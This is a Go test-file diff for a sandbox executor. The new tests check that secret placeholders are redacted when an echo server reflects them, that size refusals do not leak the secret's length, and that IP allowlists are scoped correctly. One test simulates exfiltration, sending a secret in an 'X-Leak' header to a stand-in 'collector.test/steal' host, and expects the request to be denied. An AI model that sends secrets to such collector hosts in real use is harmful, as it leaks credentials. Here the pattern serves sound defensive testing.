@@ -1,17 +1,22 @@
 package executor_test
 
 import (
+	"bytes"
 	"context"
 	"encoding/json"
 	"fmt"
+	"io"
 	"net"
 	"net/http"
 	"net/http/httptest"
 	"net/netip"
+	"strconv"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
+	"github.com/sandboxd/sandboxd/egress"
 	"github.com/sandboxd/sandboxd/executor"
 	"github.com/sandboxd/sandboxd/toolerr"
 )
@@ -328,6 +333,246 @@ func TestGuestFetchConcurrent(t *testing.T) {
 	for range n {
 		if err := <-errs; err != nil {
 			t.Error(err)
+		}
+	}
+}
+
+const f08Secret = "sk-live-THIS-IS-THE-SECRET"
+
+// echoServer is a loopback server that reflects the request as servers in
+// the wild do: every request header in its JSON body, in X-Echo-* response
+// headers and in a Content-Type parameter; /status/N answers N with the same
+// body; /big?n=N sends an N-byte JSON string, /ctl?n=N N bytes 0x01. paths records request paths
+// as sent (escaped).
+func echoServer(t *testing.T) (*httptest.Server, chan string) {
+	t.Helper()
+	paths := make(chan string, 64)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		select {
+		case paths <- r.URL.EscapedPath():
+		default:
+		}
+		if strings.HasPrefix(r.URL.Path, "/ctl") {
+			n, _ := strconv.Atoi(r.URL.Query().Get("n"))
+			_, _ = w.Write(bytes.Repeat([]byte{1}, n))
+			return
+		}
+		if strings.HasPrefix(r.URL.Path, "/big") {
+			n, _ := strconv.Atoi(r.URL.Query().Get("n"))
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = io.WriteString(w, `"`)
+			chunk := strings.Repeat("a", 1<<16)
+			for n > 0 {
+				k := min(n, len(chunk))
+				if _, err := io.WriteString(w, chunk[:k]); err != nil {
+					return
+				}
+				n -= k
+			}
+			_, _ = io.WriteString(w, `"`)
+			return
+		}
+		status := 200
+		if s, ok := strings.CutPrefix(r.URL.Path, "/status/"); ok {
+			status, _ = strconv.Atoi(s)
+		}
+		for k, vs := range r.Header {
+			w.Header()["X-Echo-"+k] = vs
+		}
+		w.Header().Set("Content-Type", "application/json; reflected="+r.Header.Get("X-Anything"))
+		w.WriteHeader(status)
+		_ = json.NewEncoder(w).Encode(map[string]any{"path": r.URL.Path, "requestURI": r.RequestURI, "headers": r.Header})
+	}))
+	t.Cleanup(srv.Close)
+	return srv, paths
+}
+
+// F08: a strict guest sending {{secret:API_KEY}} in any header to an
+// allowlisted server that reflects it never reads the value back: not in
+// the body it reads, not in the response headers (here Content-Type, which
+// the fixture returns), not in errors; the server did get the value.
+func TestF08SecretReflection(t *testing.T) {
+	srv, _ := echoServer(t)
+	port := serverPort(t, srv)
+	e := newExecutor(t, loopbackEgress, func(c executor.Config) executor.Config {
+		return c.WithSecrets(executor.Secrets{"API_KEY": f08Secret})
+	})
+	tool := load(t, e, "http_fetch_reactor", func(m map[string]any) {
+		withNetwork("allowlist", "api.test:"+port)(m)
+		m["sandbox"] = "strict"
+		m["needsSpec"] = map[string]any{"secrets": map[string]any{"API_KEY": map[string]any{"type": "string"}}}
+	})
+	res, err := invoke(t, tool, fetchInput("http://api.test:"+port+"/anything", map[string]string{
+		"X-Anything": "{{secret:API_KEY}}", "X-Request-Id": "req-{{secret:API_KEY}}-1", "Authorization": "Bearer {{secret:API_KEY}}",
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := string(res.Output)
+	if strings.Contains(out, "THIS-IS-THE") || strings.Contains(fmt.Sprintf("%+v", res), "THIS-IS-THE") {
+		t.Fatalf("the strict guest read its secret back: %s", out)
+	}
+	var o struct {
+		ContentType string `json:"contentType"`
+		JSON        struct {
+			Headers map[string][]string `json:"headers"`
+		} `json:"json"`
+	}
+	if err := json.Unmarshal(res.Output, &o); err != nil {
+		t.Fatal(err)
+	}
+	marker := "[REDACTED:API_KEY]"
+	// The server saw the value (the body says so, redacted on the way back).
+	if o.JSON.Headers["X-Anything"][0] != marker || o.JSON.Headers["X-Request-Id"][0] != "req-"+marker+"-1" ||
+		o.JSON.Headers["Authorization"][0] != "Bearer "+marker || o.ContentType != "application/json; reflected="+marker {
+		t.Fatalf("reflection not redacted as expected: %s", out)
+	}
+	// An error answer carrying the value in its message path: the guest's
+	// own error (not-json) never had it; egress errors never carry it.
+	_, err = invoke(t, tool, fetchInput("http://api.test:"+port+"/anything", map[string]string{"X-Anything": "{{secret:NOPE}}"}))
+	if err == nil || strings.Contains(err.Error(), f08Secret) {
+		t.Fatalf("undeclared placeholder: %v", err)
+	}
+}
+
+// F08.3: the header cap is checked on the placeholder form: padding that
+// fits with the placeholder is sent whatever the secret's length, and the
+// refusal one byte over names no size derived from the value.
+func TestF08HeaderSizeNoLength(t *testing.T) {
+	srv, _ := echoServer(t)
+	port := serverPort(t, srv)
+	for _, secret := range []string{"s", f08Secret, strings.Repeat("k", 5000)} {
+		e := newExecutor(t, loopbackEgress, func(c executor.Config) executor.Config {
+			return c.WithSecrets(executor.Secrets{"API_KEY": secret}).WithEgressLimits(egress.Limits{MaxRequestHeaderBytes: 4096})
+		})
+		tool := load(t, e, "http_fetch_reactor", func(m map[string]any) {
+			withNetwork("allowlist", "api.test:"+port)(m)
+			m["sandbox"] = "strict"
+			m["needsSpec"] = map[string]any{"secrets": map[string]any{"API_KEY": map[string]any{"type": "string"}}}
+		})
+		// The guest's net/http adds no headers of its own through
+		// sdkhttp beyond those given, so the placeholder form is
+		// len("X-Pad")+pad+4 + len("X-S")+len("{{secret:API_KEY}}")+4.
+		fits := 4096 - (5 + 4) - (3 + 18 + 4)
+		var got []string
+		for _, pad := range []int{fits - 200, fits + 1} {
+			_, err := invoke(t, tool, fetchInput("http://api.test:"+port+"/anything", map[string]string{
+				"X-Pad": strings.Repeat("a", pad), "X-S": "{{secret:API_KEY}}",
+			}))
+			if err != nil {
+				te := wantCode(t, err, toolerr.HandlerError)
+				got = append(got, fmt.Sprint(te.Details["handlerCode"]))
+				if len(secret) > 1 && (strings.Contains(te.Message, strconv.Itoa(len(secret))) || strings.Contains(te.Message, strconv.Itoa(pad+len(secret)))) {
+					t.Fatalf("the refusal reveals a size derived from the secret: %s", te.Message)
+				}
+				t.Logf("secret of %d bytes, pad %d: %s", len(secret), pad, te.Message)
+			} else {
+				got = append(got, "ok")
+			}
+		}
+		if strings.Join(got, ",") != "ok,egress-header-budget-exceeded" {
+			t.Fatalf("secret of %d bytes: %v (the outcome must not depend on the value's length)", len(secret), got)
+		}
+	}
+}
+
+// --secret-destination: a bound secret goes only to its destinations, even
+// when the tool's allowlist admits others; the refusal names the secret and
+// the destination, never the value, and nothing is sent.
+func TestSecretDestinationBindingGuest(t *testing.T) {
+	srv, paths := echoServer(t)
+	port := serverPort(t, srv)
+	dests, err := egress.ParseSecretDestinations([]string{"API_KEY=http://api.test:" + port})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := newExecutor(t, loopbackEgress, func(c executor.Config) executor.Config {
+		return c.WithSecrets(executor.Secrets{"API_KEY": f08Secret}).WithSecretDestinations(dests)
+	})
+	tool := load(t, e, "http_fetch_reactor", func(m map[string]any) {
+		withNetwork("allowlist", "api.test:"+port, "collector.test:"+port)(m)
+		m["sandbox"] = "strict"
+		m["needsSpec"] = map[string]any{"secrets": map[string]any{"API_KEY": map[string]any{"type": "string"}}}
+	})
+	if _, err := invoke(t, tool, fetchInput("http://api.test:"+port+"/ok", map[string]string{"Authorization": "{{secret:API_KEY}}"})); err != nil {
+		t.Fatal(err)
+	}
+	<-paths
+	res, err := invoke(t, tool, fetchInput("http://collector.test:"+port+"/steal", map[string]string{"X-Leak": "{{secret:API_KEY}}"}))
+	te := wantCode(t, err, toolerr.HandlerError)
+	if te.Details["handlerCode"] != "egress-denied" || !strings.Contains(te.Message, `secret "API_KEY" may not be sent to http://collector.test:`+port) {
+		t.Fatalf("bound secret to another destination: %v %s", te.Details, te.Message)
+	}
+	if b, _ := json.Marshal(te); strings.Contains(string(b), f08Secret) || strings.Contains(fmt.Sprintf("%+v", res), f08Secret) {
+		t.Fatal("the refusal carries the value")
+	}
+	select {
+	case p := <-paths:
+		t.Fatalf("a request went out: %s", p)
+	default:
+	}
+	// Without a placeholder the same destination is fine.
+	if _, err := invoke(t, tool, fetchInput("http://collector.test:"+port+"/plain", nil)); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// F09: an IP entry admits its address only for its own scheme and port:
+// hosts ["http://127.0.0.1:9", "*.corp.test:*"] with svc.corp.test ->
+// 127.0.0.1 must not reach 127.0.0.1:PORT through the name. Fake resolver,
+// recording dialer (only loopback is ever dialled).
+func TestF09IPEntryScope(t *testing.T) {
+	srv, _ := echoServer(t)
+	port := serverPort(t, srv)
+	var mu sync.Mutex
+	var dials []string
+	dial := func(ctx context.Context, network, addr string) (net.Conn, error) {
+		mu.Lock()
+		dials = append(dials, addr)
+		mu.Unlock()
+		if host, _, _ := net.SplitHostPort(addr); host != "127.0.0.1" {
+			return nil, fmt.Errorf("test dialer refuses %s", addr)
+		}
+		return (&net.Dialer{Timeout: time.Second}).DialContext(ctx, "tcp", addr)
+	}
+	take := func() []string {
+		mu.Lock()
+		defer mu.Unlock()
+		d := dials
+		dials = nil
+		return d
+	}
+	e := newExecutor(t, func(c executor.Config) executor.Config {
+		return c.WithEgressResolver(testResolver{}).WithEgressDialer(dial)
+	})
+	cases := []struct {
+		hosts []string
+		url   string
+		ok    bool
+	}{
+		{[]string{"http://127.0.0.1:9", "*.corp.test:*"}, "http://svc.corp.test:" + port + "/via-name", false},
+		{[]string{"http://127.0.0.1:" + port, "*.corp.test:*"}, "http://svc.corp.test:" + port + "/via-name-same-port", false},
+		{[]string{"http://127.0.0.1:9"}, "http://127.0.0.1:" + port + "/other-port", false},
+		{[]string{"https://127.0.0.1:" + port}, "http://127.0.0.1:" + port + "/other-scheme", false},
+		{[]string{"http://127.0.0.1:" + port}, "http://127.0.0.1:" + port + "/its-own", true},
+		{[]string{"127.0.0.0/8:*"}, "http://127.0.0.1:" + port + "/cidr-any-port", true},
+	}
+	for _, c := range cases {
+		tool := load(t, e, "http_fetch_reactor", withNetwork("allowlist", c.hosts...))
+		_, err := invoke(t, tool, fetchInput(c.url, nil))
+		d := take()
+		if c.ok {
+			if err != nil || len(d) != 1 {
+				t.Errorf("%v %s: %v, dialled %v", c.hosts, c.url, err, d)
+			}
+			continue
+		}
+		if err == nil || len(d) != 0 {
+			t.Errorf("%v %s: want denied without a dial, got %v, dialled %v", c.hosts, c.url, err, d)
+			continue
+		}
+		if te := wantCode(t, err, toolerr.HandlerError); te.Details["handlerCode"] != "egress-denied" {
+			t.Errorf("%v %s: %v", c.hosts, c.url, te.Details)
 		}
 	}
 }
